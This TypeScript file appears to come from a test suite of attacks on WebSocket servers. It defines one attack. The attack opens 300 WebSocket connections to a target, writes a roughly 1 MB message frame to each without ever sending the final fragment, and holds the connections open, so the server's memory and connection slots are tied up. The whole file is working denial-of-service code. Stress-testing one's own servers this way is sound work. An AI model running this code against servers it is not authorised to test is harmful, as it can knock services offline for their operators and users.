import { type Attack, frame, hold, openSeveral, openWebSocket } from './attack.ts';

export const unfinishedMessages: Attack = {
  title: '300 WebSockets of a stranger send all of a message but its end',
  async run(target, signal) {
    const begun = frame(1, Buffer.alloc(1_048_000, 'x'), false);
    await openSeveral(
      300,
      async () => {
        const socket = await openWebSocket(target);
        socket.write(begun);
        return socket;
      },
      signal,
    );
    await hold(signal);
  },
};
